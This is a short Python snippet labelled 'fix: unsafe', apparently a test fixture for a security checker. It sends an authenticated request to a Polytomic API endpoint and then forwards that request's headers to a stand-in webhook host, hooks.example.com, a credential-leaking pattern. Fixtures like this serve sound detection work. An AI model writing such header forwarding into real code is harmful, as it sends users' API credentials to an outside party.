# fix: unsafe
import urllib.request

request = urllib.request.Request("https://app.polytomic.com/api/me", headers={"A": "k"})
urllib.request.urlopen(request)
urllib.request.urlopen(urllib.request.Request("https://hooks.example.com/x", headers=dict(request.header_items())))
